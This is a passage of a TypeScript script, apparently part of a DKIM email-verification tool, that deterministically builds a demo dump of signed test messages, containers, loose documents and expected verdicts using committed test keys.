/**
 * Generator of the bundled DEMO DUMP (`fixtures/demo-dump/`), the key file it is verified
 * against (`fixtures/demo-keys.json`) and the expected verdict of every message
 * (`fixtures/demo-expected.json`).
 *
 *   node scripts/generate-demo-dump.ts          # rewrites the three outputs under fixtures/
 *
 * The output is deterministic: running it twice gives byte-identical files, and
 * tests/fixtures/demo-generator.test.ts checks that the committed fixtures are exactly what this
 * script produces. To keep it so:
 *   - no key is generated here; the test keys are committed under fixtures/keys/ (see its README);
 *   - every signature gets a fixed signing time (RSA PKCS#1 v1.5 and Ed25519 signatures are
 *     deterministic for a given key and input);
 *   - nothing reads the clock, the environment or a random source; the "random" bytes of the
 *     junk file come from a SHA-256 chain.
 *
 * Besides message files, the dump holds messages forwarded inside other messages (message/rfc822
 * parts, labelled `<parent>#attachment-N`), a zip export (entries labelled `<zip>!<entry>`, the
 * zip itself labelled as a container) and loose documents, some byte-identical to attachments of
 * the messages; every non-email file is labelled twice: skipped (ExpectedSkip) and as a document
 * (ExpectedDocument).
 *
 * The keys are TEST KEYS. A signature made with them proves nothing about anything real.
 */
import { createHash, createPrivateKey, createPublicKey, sign as cryptoSign } from 'node:crypto';
import type { KeyObject } from 'node:crypto';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createSeal, dkimSign } from 'mailauth';
import type { DKIMSignOptions } from 'mailauth';
import { zipCentralRecord, zipEndRecord, zipLocalHeader } from './zip-records.ts';

// ---------------------------------------------------------------------------------------------
// Output model
// ---------------------------------------------------------------------------------------------

export type ExpectedVerdict = 'verified' | 'unverifiable' | 'suspicious';
export type ExpectedRepair = 'crlf' | 'mboxrd-unquote';

export interface ExpectedMessage {
  /**
   * relative to demo-dump/, forward slashes. A message that is not a file of its own has a path
   * built from the one holding it: `<parent path>#attachment-<N>` for a forwarded message
   * (message/rfc822 part), N the 1-based position of the part among the parent's attachment-like
   * parts (text body parts do not count); `<zip path>!<entry name>` for a message inside a zip.
   */
  path: string;
  /** 0 for single-message files, embedded messages and zip entries; the position inside an mbox */
  index: number;
  verdict: ExpectedVerdict;
  /** reason codes (src/verdict/reasons.ts) that must be among the verdict's reasons */
  reasons: string[];
  /** repairs the verifier needs to turn the stored bytes back into the signed bytes */
  repairs: ExpectedRepair[];
  note: string;
}

export interface ExpectedSkip {
  path: string;
  skipped: true;
  /** a SkipReason of src/discover/types.ts */
  reason: 'empty' | 'not-email' | 'binary';
}

/**
 * A file of the dump that is not an email (every skipped file, which also has its ExpectedSkip
 * entry), judged as a loose document against the attachments of the dump's messages.
 */
export interface ExpectedDocument {
  path: string;
  document: true;
  /**
   * verified-by-email: byte for byte identical (decoded) to an attachment of a verified message;
   * seen-in-unverified-email: identical only to attachments of messages that are not verified;
   * no-email-match: identical to no attachment.
   */
  status: 'verified-by-email' | 'seen-in-unverified-email' | 'no-email-match';
  /** same normalised file name as an attachment of a verified message, but different content */
  nameConflict: boolean;
}

/** A file that is not an email itself but holds messages (a zip archive); no ExpectedSkip entry. */
export interface ExpectedContainer {
  path: string;
  container: 'zip';
}

export type ExpectedEntry = ExpectedMessage | ExpectedSkip | ExpectedDocument | ExpectedContainer;

/** Separator between a zip archive's path and an entry name in a message path. */
export const ZIP_ENTRY_SEPARATOR = '!';

/** The path of the N-th (1-based) attachment-like part of the message at `parentPath`. */
export const attachmentPath = (parentPath: string, partIndex: number): string => `${parentPath}#attachment-${partIndex}`;

/** One message as the generator made it, for tests that want to check it without re-parsing containers. */
export interface DemoMessage {
  path: string;
  index: number;
  /** the file of the dump that holds the message (for embedded and zip messages, not `path`) */
  file: string;
  /** how the message sits in `file`: a file of its own (or an mbox/emlx), forwarded inside another message, or a zip entry */
  holder: 'file' | 'attachment' | 'zip';
  /** the message as signed: CRLF line endings, no mboxrd quoting */
  signedForm: Buffer;
  /** the moment the message claims to have been written (its Date header) */
  date: Date;
  expected: ExpectedMessage;
}

export interface DemoDump {
  /** relative path under demo-dump/ → file content */
  files: Map<string, Buffer>;
  /** "<selector>._domainkey.<domain>" → TXT records */
  keys: Record<string, string[]>;
  expected: ExpectedEntry[];
  messages: DemoMessage[];
}

// ---------------------------------------------------------------------------------------------
// Keys
// ---------------------------------------------------------------------------------------------

const KEYS_DIR = fileURLToPath(new URL('../fixtures/keys/', import.meta.url));

interface KeySpec {
  domain: string;
  selector: string;
  /** false: the public key is deliberately missing from demo-keys.json (rotated out of DNS) */
  published: boolean;
  /** true: published as revoked (empty p=) */
  revoked?: boolean;
}

const KEY_SPECS: KeySpec[] = [
  { domain: 'demo.example', selector: 's2048', published: true },
  { domain: 'demo.example', selector: 'ed1', published: true },
  { domain: 'demo.example', selector: 's2016', published: false },
  { domain: 'news.example', selector: 's1024', published: true },
  { domain: 'weak.example', selector: 'old512', published: true },
  { domain: 'gone.example', selector: 'revoked', published: true, revoked: true },
  { domain: 'mailer.example', selector: 'esp', published: true },
  { domain: 'lists.example', selector: 'arc', published: true },
];

type KeyRing = Map<string, string>;

const keyName = (selector: string, domain: string): string => `${selector}._domainkey.${domain}`;

async function loadKeys(): Promise<KeyRing> {
  const ring: KeyRing = new Map();
  for (const spec of KEY_SPECS) {
    const name = keyName(spec.selector, spec.domain);
    ring.set(name, await readFile(path.join(KEYS_DIR, `${name}.pem`), 'utf8'));
  }
  return ring;
}

function privateKeyOf(ring: KeyRing, selector: string, domain: string): string {
  const pem = ring.get(keyName(selector, domain));
  if (!pem) throw new Error(`no test key ${keyName(selector, domain)}`);
  return pem;
}

/** The DKIM key record of a private key: RSA as SubjectPublicKeyInfo, Ed25519 as the raw 32 bytes (RFC 8463). */
function keyRecord(pem: string): string {
  const pub: KeyObject = createPublicKey(pem);
  const der = pub.export({ type: 'spki', format: 'der' });
  if (pub.asymmetricKeyType === 'ed25519') {
    return `v=DKIM1; k=ed25519; p=${der.subarray(der.length - 32).toString('base64')}`;
  }
  return `v=DKIM1; k=rsa; p=${der.toString('base64')}`;
}

function buildKeyFile(ring: KeyRing): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  const specs = [...KEY_SPECS].sort((a, b) => cmp(keyName(a.selector, a.domain), keyName(b.selector, b.domain)));
  for (const spec of specs) {
    if (!spec.published) continue;
    const name = keyName(spec.selector, spec.domain);
    out[name] = [spec.revoked ? 'v=DKIM1; k=rsa; p=' : keyRecord(privateKeyOf(ring, spec.selector, spec.domain))];
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Small helpers: time, text, hashes
// ---------------------------------------------------------------------------------------------

const cmp = (a: string, b: string): number => (a < b ? -1 : a > b ? 1 : 0);

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number, w = 2): string => String(n).padStart(w, '0');

/** Parses an ISO time with an explicit offset, e.g. 2017-02-14T10:12:03+01:00. */
function instant(iso: string): Date {
  if (!/[+-]\d\d:\d\d$|Z$/.test(iso)) throw new Error(`time without offset: ${iso}`);
  const d = new Date(iso);
  if (Number.isNaN(d.getTime())) throw new Error(`bad time ${iso}`);
  return d;
}

const addSeconds = (d: Date, s: number): Date => new Date(d.getTime() + s * 1000);

/** RFC 5322 date-time in the given zone offset ("+0100"), optionally with a zone comment. */
function mailDate(d: Date, zone = '+0000', comment?: string): string {
  const sign = zone.startsWith('-') ? -1 : 1;
  const minutes = sign * (Number(zone.slice(1, 3)) * 60 + Number(zone.slice(3, 5)));
  const l = new Date(d.getTime() + minutes * 60_000);
  const s =
    `${DAYS[l.getUTCDay()]}, ${l.getUTCDate()} ${MONTHS[l.getUTCMonth()]} ${l.getUTCFullYear()} ` +
    `${pad(l.getUTCHours())}:${pad(l.getUTCMinutes())}:${pad(l.getUTCSeconds())} ${zone}`;
  return comment ? `${s} (${comment})` : s;
}

/** The zone of an ISO string as used in a Date header: "+01:00" → "+0100". */
function zoneOf(iso: string): string {
  if (iso.endsWith('Z')) return '+0000';
  return iso.slice(-6).replace(':', '');
}

/** asctime() form used on mbox "From " lines, always UTC. */
function asctime(d: Date): string {
  return (
    `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ` +
    `${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} ${d.getUTCFullYear()}`
  );
}

const sha256 = (s: string | Buffer): Buffer => createHash('sha256').update(s).digest();

/** A Postfix-like queue id derived from a seed. */
const queueId = (seed: string): string => sha256(seed).toString('hex').slice(0, 10).toUpperCase();

/** Every line ending becomes CRLF. */
const crlf = (s: string): string => s.replace(/\r?\n/g, '\r\n');

/** base64 wrapped at 76 columns, CRLF line endings. */
function base64Lines(data: Buffer): string {
  const b64 = data.toString('base64');
  const lines: string[] = [];
  for (let i = 0; i < b64.length; i += 76) lines.push(b64.slice(i, i + 76));
  return lines.join('\r\n');
}

// ---------------------------------------------------------------------------------------------
// Non-email files: built byte by byte so they do not depend on zlib or any tool version
// ---------------------------------------------------------------------------------------------

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const byte of buf) c = (CRC_TABLE[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function adler32(buf: Buffer): number {
  let a = 1;
  let b = 0;
  for (const byte of buf) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
}

const u32be = (n: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};

/** A 2×2 RGB PNG, IDAT as a zlib stream with one stored (uncompressed) block. */
function tinyPng(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    return Buffer.concat([u32be(data.length), td, u32be(crc32(td))]);
  };
  const ihdr = Buffer.concat([u32be(2), u32be(2), Buffer.from([8, 2, 0, 0, 0])]);
  // two scanlines, filter byte 0, then RGB pixels: a dark blue and a grey
  const raw = Buffer.from([0, 0x1f, 0x3a, 0x93, 0x9a, 0x9a, 0x9a, 0, 0x9a, 0x9a, 0x9a, 0x1f, 0x3a, 0x93]);
  const len = Buffer.alloc(4);
  len.writeUInt16LE(raw.length, 0);
  len.writeUInt16LE(~raw.length & 0xffff, 2);
  const zlibStream = Buffer.concat([Buffer.from([0x78, 0x01, 0x01]), len, raw, u32be(adler32(raw))]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlibStream),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A one-page PDF with a correct cross-reference table. */
function tinyPdf(text: string): Buffer {
  const content = `BT /F1 14 Tf 24 60 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 120] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

interface ZipEntrySpec {
  name: string;
  data: Buffer;
  /**
   * 0: stored. 8: deflated, written here as deflate STORED blocks (RFC 1951 BTYPE=00), so the
   * archive exercises an unzipper's inflate path without depending on any zlib version.
   */
  method?: 0 | 8;
}

/** MS-DOS time and date fields of a zip header (local time as written by the archiver; no zone). */
function dosDateTime(year: number, month: number, day: number, hour: number, minute: number, second = 0): { time: number; date: number } {
  return { time: (hour << 11) | (minute << 5) | (second >> 1), date: ((year - 1980) << 9) | (month << 5) | day };
}

/** Raw deflate stream made of stored blocks only (at most 65,535 bytes each), the last one final. */
function deflateStoredBlocks(data: Buffer): Buffer {
  const blocks: Buffer[] = [];
  let pos = 0;
  do {
    const chunk = data.subarray(pos, pos + 0xffff);
    pos += chunk.length;
    const header = Buffer.alloc(5);
    header[0] = pos >= data.length ? 1 : 0; // BFINAL, BTYPE=00
    header.writeUInt16LE(chunk.length, 1);
    header.writeUInt16LE(~chunk.length & 0xffff, 3);
    blocks.push(header, chunk);
  } while (pos < data.length);
  return Buffer.concat(blocks);
}

/**
 * A ZIP archive written byte by byte: one local header per entry (version 2.0, no flags, no
 * extra fields, no data descriptor), the central directory, and the end record. Every entry gets
 * the same DOS time stamp; names are ASCII.
 */
function zipArchive(entries: ZipEntrySpec[], when: { time: number; date: number }): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'latin1');
    if (/[^\x20-\x7e]/.test(e.name)) throw new Error(`zip entry name not ASCII: ${e.name}`);
    const method = e.method ?? 0;
    const stored = method === 8 ? deflateStoredBlocks(e.data) : e.data;
    const fields = { flags: 0, method, dosTime: when.time, dosDate: when.date, crc32: crc32(e.data), compressedSize: stored.length, size: e.data.length, name };
    const localPart = Buffer.concat([zipLocalHeader(fields), stored]);
    locals.push(localPart);
    centrals.push(zipCentralRecord({ ...fields, madeBy: 20, externalAttributes: 0, localHeaderOffset: offset }));
    offset += localPart.length;
  }
  const centralPart = Buffer.concat(centrals);
  const end = zipEndRecord(entries.length, centralPart.length, offset);
  return Buffer.concat([...locals, centralPart, end]);
}

/** A ZIP archive holding one stored file, shaped like the start of an Office document. */
function tinyDocxLikeZip(): Buffer {
  const data = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="xml" ContentType="application/xml"/></Types>\n',
    'latin1',
  );
  return zipArchive([{ name: '[Content_Types].xml', data }], dosDateTime(2018, 10, 2, 9, 30));
}

/** Pseudo-random junk from a SHA-256 chain, with NUL bytes guaranteed. */
function junkBytes(seed: string, length: number): Buffer {
  const parts: Buffer[] = [];
  let block = sha256(seed);
  let total = 0;
  while (total < length) {
    parts.push(block);
    total += block.length;
    block = sha256(block);
  }
  const out = Buffer.concat(parts).subarray(0, length);
  // no recognisable signature at the start, and several NULs so it reads as binary
  out[0] = 0xd7;
  out[1] = 0x00;
  for (let i = 17; i < length; i += 41) out[i] = 0x00;
  return Buffer.from(out);
}

// ---------------------------------------------------------------------------------------------
// Composing messages
// ---------------------------------------------------------------------------------------------

interface Draft {
  /** ISO time with offset; becomes the Date header */
  date: string;
  from: string;
  to: string;
  cc?: string;
  subject: string;
  messageId: string;
  /** header lines placed after Message-ID (User-Agent, In-Reply-To, List-*, ...) */
  extra?: string[];
  /** MIME headers after MIME-Version (Content-Type, Content-Transfer-Encoding) */
  mimeHeaders: string[];
  /** body, any line endings (converted to CRLF) */
  body: string;
  /** the submission hop that the sending server added before signing */
  submission?: { client: string; server: string; software: string; rcpt: string; delay: number };
}

/** The message as it leaves the author's server, before any DKIM-Signature. CRLF. */
function compose(d: Draft): string {
  const date = instant(d.date);
  const zone = zoneOf(d.date);
  const lines: string[] = [];
  if (d.submission) {
    const s = d.submission;
    lines.push(
      `Received: from [${s.client}] (unknown [${s.client}])`,
      `\tby ${s.server} (${s.software}) with ESMTPSA id ${queueId(d.messageId + s.server)}`,
      `\tfor <${s.rcpt}>; ${mailDate(addSeconds(date, s.delay), zone)}`,
    );
  }
  lines.push(`From: ${d.from}`, `To: ${d.to}`);
  if (d.cc) lines.push(`Cc: ${d.cc}`);
  lines.push(`Subject: ${d.subject}`, `Date: ${mailDate(date, zone)}`, `Message-ID: ${d.messageId}`);
  lines.push(...(d.extra ?? []));
  lines.push('MIME-Version: 1.0', ...d.mimeHeaders);
  return `${lines.join('\r\n')}\r\n\r\n${crlf(d.body)}`;
}

interface Hop {
  /** the server that handed the message over */
  from: string;
  fromIp: string;
  /** the server that received it */
  by: string;
  software: string;
  protocol: string;
  rcpt: string;
  at: Date;
  zone?: string;
}

const receivedLine = (h: Hop, seed: string): string =>
  `Received: from ${h.from} (${h.from} [${h.fromIp}])\r\n` +
  `\tby ${h.by} (${h.software}) with ${h.protocol} id ${queueId(seed + h.by + h.at.toISOString())}\r\n` +
  `\tfor <${h.rcpt}>; ${mailDate(h.at, h.zone ?? '+0000', h.zone ? undefined : 'UTC')}`;

/** Prepends Received lines, the first hop given first (it ends up lowest). */
function addHops(message: string, hops: Hop[], seed: string): string {
  let out = message;
  for (const hop of hops) out = `${receivedLine(hop, seed)}\r\n${out}`;
  return out;
}

const MAILBOX = 'jordan@harbor.example';

/** Final delivery into the leaked mailbox at harbor.example: two hops plus Return-Path and Delivered-To. */
function deliver(message: string, o: { returnPath: string; relay: string; relayIp: string; at: Date; seed: string }): string {
  const withHops = addHops(
    message,
    [
      { from: o.relay, fromIp: o.relayIp, by: 'mx1.harbor.example', software: 'Postfix', protocol: 'ESMTPS', rcpt: MAILBOX, at: o.at },
      {
        from: 'mx1.harbor.example',
        fromIp: '198.51.100.25',
        by: 'imap.harbor.example',
        software: 'Postfix',
        protocol: 'ESMTP',
        rcpt: MAILBOX,
        at: addSeconds(o.at, 1),
      },
    ],
    o.seed,
  );
  return `Return-Path: <${o.returnPath}>\r\nDelivered-To: ${MAILBOX}\r\n${withHops}`;
}

// ---------------------------------------------------------------------------------------------
// Signing
// ---------------------------------------------------------------------------------------------

interface SignSpec {
  domain: string;
  selector: string;
  signTime: Date;
  canonicalization?: string;
  headerList?: string;
  expires?: Date;
  maxBodyLength?: number;
}

/** Returns the DKIM-Signature header (CRLF-terminated) mailauth makes for the message. */
async function dkim(ring: KeyRing, message: string, s: SignSpec): Promise<string> {
  const privateKey = privateKeyOf(ring, s.selector, s.domain);
  const entry: DKIMSignOptions = { signingDomain: s.domain, selector: s.selector, privateKey };
  if (s.canonicalization) entry.canonicalization = s.canonicalization;
  if (s.headerList) entry.headerList = s.headerList;
  if (s.maxBodyLength !== undefined) entry.maxBodyLength = s.maxBodyLength;
  // mailauth only reads the keys of `signatureData`; the top-level copy is for the type only
  const options: DKIMSignOptions = { ...entry, signTime: s.signTime, signatureData: [entry] };
  if (s.canonicalization) options.canonicalization = s.canonicalization;
  if (s.expires) options.expires = s.expires;
  const res = await dkimSign(Buffer.from(message, 'latin1'), options);
  if (res.errors.length || !res.signatures) {
    throw new Error(`signing with ${s.selector}._domainkey.${s.domain} failed: ${res.errors.map((e) => e.err.message).join('; ')}`);
  }
  return res.signatures;
}

/** Relaxed header canonicalization (RFC 6376 section 3.4.2) of one field, without line ending. */
function relaxedField(field: string): string {
  const colon = field.indexOf(':');
  const name = field.slice(0, colon).replace(/[ \t]+$/, '').toLowerCase();
  const value = field
    .slice(colon + 1)
    .replace(/\r?\n/g, '')
    .replace(/[ \t]+/g, ' ')
    .replace(/^ | $/g, '');
  return `${name}:${value}`;
}

/** The header fields of a message, each with its folded continuation lines, top to bottom. */
function headerFields(message: string): string[] {
  const end = message.indexOf('\r\n\r\n');
  const block = message.slice(0, end);
  const fields: string[] = [];
  for (const line of block.split('\r\n')) {
    if (/^[ \t]/.test(line) && fields.length) fields[fields.length - 1] += `\r\n${line}`;
    else fields.push(line);
  }
  return fields;
}

/**
 * A DKIM signature whose h= does NOT list From. mailauth refuses to make one (ENOFROM), as it
 * should; real signers with a bad configuration do make them. The body hash is taken from a
 * normal mailauth signature of the same message (same relaxed body canonicalization) and the
 * header hash is computed here. The test checks the result with mailauth's own canonicalizer.
 */
async function dkimWithoutFrom(ring: KeyRing, message: string, s: SignSpec & { headerList: string }): Promise<string> {
  if (s.headerList.split(':').some((h) => h.trim().toLowerCase() === 'from')) throw new Error('h= must not list from here');
  const normal = await dkim(ring, message, { ...s, headerList: undefined, canonicalization: 'relaxed/relaxed' });
  const bh = /bh=([^;\s]+);/.exec(normal.replace(/\r\n[ \t]/g, ' '))?.[1];
  if (!bh) throw new Error('no bh= in the reference signature');

  const fields = headerFields(message);
  const used = new Set<number>();
  const signed: string[] = [];
  for (const name of s.headerList.split(':')) {
    for (let i = fields.length - 1; i >= 0; i--) {
      const f = fields[i] ?? '';
      if (!used.has(i) && f.slice(0, f.indexOf(':')).trim().toLowerCase() === name.toLowerCase()) {
        used.add(i);
        signed.push(`${relaxedField(f)}\r\n`);
        break;
      }
    }
  }
  const t = Math.floor(s.signTime.getTime() / 1000);
  const unsigned =
    `DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=${s.domain};\r\n` +
    `\th=${s.headerList}; q=dns/txt;\r\n` +
    `\ts=${s.selector}; t=${t}; bh=${bh};\r\n` +
    `\tb=`;
  const data = signed.join('') + relaxedField(unsigned);
  const b = cryptoSign('sha256', Buffer.from(data, 'latin1'), createPrivateKey(privateKeyOf(ring, s.selector, s.domain))).toString('base64');
  const folded: string[] = [];
  for (let i = 0; i < b.length; i += 70) folded.push(b.slice(i, i + 70));
  return `${unsigned}${folded.join('\r\n\t ')}\r\n`;
}

// ---------------------------------------------------------------------------------------------
// Containers
// ---------------------------------------------------------------------------------------------

/** mboxrd: every line matching /^>*From / gets one more '>'. Line endings are kept. */
function mboxrdQuote(message: string): string {
  return message.replace(/^(>*From )/gm, '>$1');
}

/** Apple Mail .emlx: byte count line (padded as Mail writes it), the message, a plist trailer. */
function emlx(message: Buffer, plist: { dateReceived: Date; flags: number; remoteId: string; subject: string }): Buffer {
  const trailer =
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n' +
    '<plist version="1.0">\n' +
    '<dict>\n' +
    '\t<key>date-last-viewed</key>\n' +
    `\t<integer>${Math.floor(plist.dateReceived.getTime() / 1000) + 3600}</integer>\n` +
    '\t<key>date-received</key>\n' +
    `\t<integer>${Math.floor(plist.dateReceived.getTime() / 1000)}</integer>\n` +
    '\t<key>flags</key>\n' +
    `\t<integer>${plist.flags}</integer>\n` +
    '\t<key>remote-id</key>\n' +
    `\t<string>${plist.remoteId}</string>\n` +
    '\t<key>subject</key>\n' +
    `\t<string>${plist.subject}</string>\n` +
    '</dict>\n' +
    '</plist>\n';
  return Buffer.concat([Buffer.from(`${String(message.length).padEnd(10, ' ')}\n`, 'latin1'), message, Buffer.from(trailer, 'utf8')]);
}

// ---------------------------------------------------------------------------------------------
// The cases
// ---------------------------------------------------------------------------------------------

interface Built {
  /** the message as signed (CRLF, unquoted) */
  signedForm: string;
  /** the message as stored, before any container framing */
  stored: string;
  date: Date;
  verdict: ExpectedVerdict;
  reasons: string[];
  repairs: ExpectedRepair[];
  note: string;
}

/** The decoded CSV attachment of inbox/2017-02-14 Q1 budget.eml; the same bytes lie loose in documents/. */
const BUDGET_Q1_CSV = Buffer.from(
  'line,item,q1_eur\r\n1,Cloud hosting,18400\r\n2,Contractors,52000\r\n3,Travel,7300\r\n4,Hardware refresh,21950\r\n',
  'latin1',
);

/** The decoded PDF attachment of inbox/2017-05-02 Contract draft v3.eml; the same bytes lie loose in documents/. */
const CONTRACT_DRAFT_V3_PDF = tinyPdf('Contract draft v3');

const TEXT_PLAIN = ['Content-Type: text/plain; charset="us-ascii"', 'Content-Transfer-Encoding: 7bit'];

const sub = (server: string, client: string, software = 'Postfix') => ({ client, server, software, rcpt: MAILBOX, delay: 1 });

/** The usual path of a demo.example message: signed at smtp.demo.example, delivered to harbor.example. */
async function demoExampleMail(
  ring: KeyRing,
  draft: Draft,
  sign: Omit<SignSpec, 'signTime'> & { signDelay?: number },
  returnPath: string,
  relay = { host: 'smtp.demo.example', ip: '192.0.2.10' },
): Promise<{ signedForm: string; delivered: string; date: Date }> {
  const date = instant(draft.date);
  const message = compose(draft);
  const signature = await dkim(ring, message, { ...sign, signTime: addSeconds(date, sign.signDelay ?? 2) });
  const signedForm = signature + message;
  const delivered = deliver(signedForm, { returnPath, relay: relay.host, relayIp: relay.ip, at: addSeconds(date, 7), seed: draft.messageId });
  return { signedForm, delivered, date };
}

async function buildCases(ring: KeyRing): Promise<{ singles: Map<string, Built>; mbox: Built[]; emlxMessage: Built }> {
  const singles = new Map<string, Built>();
  const genuine = (note: string): Pick<Built, 'verdict' | 'reasons' | 'repairs' | 'note'> => ({
    verdict: 'verified',
    reasons: ['dkim-verified'],
    repairs: [],
    note,
  });

  // --- A: RSA-2048 relaxed/relaxed, aligned, multipart with a base64 CSV attachment ----------
  {
    const csv = BUDGET_Q1_CSV;
    const boundary = '----=_Part_8841_1487063523.1487063523001';
    const draft: Draft = {
      date: '2017-02-14T10:12:03+01:00',
      from: 'Alice Moreau <alice@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Q1 budget - final numbers',
      messageId: '<5f1c2a9e.8841.1487063523@smtp.demo.example>',
      extra: ['User-Agent: Mozilla/5.0 (Windows NT 10.0; WOW64; rv:45.0) Gecko/20100101 Thunderbird/45.7.1'],
      mimeHeaders: [`Content-Type: multipart/mixed;\r\n boundary="${boundary}"`],
      body:
        `This is a multi-part message in MIME format.\n--${boundary}\n` +
        'Content-Type: text/plain; charset=utf-8; format=flowed\nContent-Transfer-Encoding: 7bit\n\n' +
        'Hi Jordan,\n\nattached are the final Q1 numbers as agreed on Friday. Hosting went up\n' +
        'a bit, travel is down. Let me know if finance needs them in another format.\n\nAlice\n\n' +
        `--${boundary}\n` +
        'Content-Type: text/csv; charset=UTF-8;\n name="budget-q1.csv"\nContent-Transfer-Encoding: base64\n' +
        'Content-Disposition: attachment;\n filename="budget-q1.csv"\n\n' +
        `${base64Lines(csv)}\n--${boundary}--\n`,
      submission: sub('smtp.demo.example', '10.20.0.15'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'alice@demo.example');
    singles.set('inbox/2017-02-14 Q1 budget.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      ...genuine('Genuine RSA-2048 relaxed/relaxed signature by demo.example, aligned with From; multipart with a base64 CSV attachment.'),
    });
  }

  // --- B: Ed25519 ------------------------------------------------------------------------------
  {
    const draft: Draft = {
      date: '2018-09-03T08:41:27+02:00',
      from: 'IT Service Desk <it@demo.example>',
      to: 'jordan@harbor.example',
      subject: 'New VPN settings for partner accounts',
      messageId: '<20180903064127.GA3310@it.demo.example>',
      extra: ['User-Agent: Mutt/1.9.4 (2018-02-28)'],
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hello,\n\nfrom Monday 10 September the partner VPN moves to vpn2.demo.example.\n' +
        'Your existing certificate keeps working; only the host name changes.\n\n' +
        'If the client asks about a new fingerprint, it should start with 4F:19:C2.\n\n' +
        '-- \nIT Service Desk, demo.example\n',
      submission: sub('smtp.demo.example', '10.20.4.2'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 'ed1' }, 'it@demo.example');
    singles.set('inbox/2018-09-03 New VPN settings.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      ...genuine('Genuine Ed25519 (ed25519-sha256) signature by demo.example, selector ed1.'),
    });
  }

  // --- C: simple/simple, multipart with a small PDF attachment --------------------------------
  {
    const pdf = CONTRACT_DRAFT_V3_PDF;
    const boundary = 'Apple-Mail=_6B1E02D4-77A1-4C35-9F0B-2D8E5A4C1F10';
    const draft: Draft = {
      date: '2017-05-02T17:05:44+02:00',
      from: 'Ben Okafor <ben@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      cc: 'legal@demo.example',
      subject: 'Contract draft v3',
      messageId: '<A3F1D6C2-0B7E-4E55-8C1A-93D2E4F5A6B7@demo.example>',
      extra: ['X-Mailer: Apple Mail (2.3273)'],
      mimeHeaders: [`Content-Type: multipart/mixed;\r\n\tboundary="${boundary}"`],
      body:
        `\n--${boundary}\nContent-Transfer-Encoding: 7bit\nContent-Type: text/plain;\n\tcharset=us-ascii\n\n` +
        'Jordan,\n\nthird draft attached. Clause 7 (liability cap) is the only change since v2.\n\n' +
        'Ben\n\n' +
        `--${boundary}\nContent-Disposition: attachment;\n\tfilename=contract-draft-v3.pdf\n` +
        'Content-Type: application/pdf;\n\tname="contract-draft-v3.pdf"\nContent-Transfer-Encoding: base64\n\n' +
        `${base64Lines(pdf)}\n--${boundary}--\n`,
      submission: sub('smtp.demo.example', '10.20.0.31'),
    };
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'demo.example', selector: 's2048', canonicalization: 'simple/simple' },
      'ben@demo.example',
    );
    singles.set('inbox/2017-05-02 Contract draft v3.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      ...genuine('Genuine RSA-2048 signature with simple/simple canonicalization; multipart with a base64 PDF attachment.'),
    });
  }

  // --- E: x= expired long ago, but after the message's Date -----------------------------------
  {
    const draft: Draft = {
      date: '2016-06-01T09:30:12+02:00',
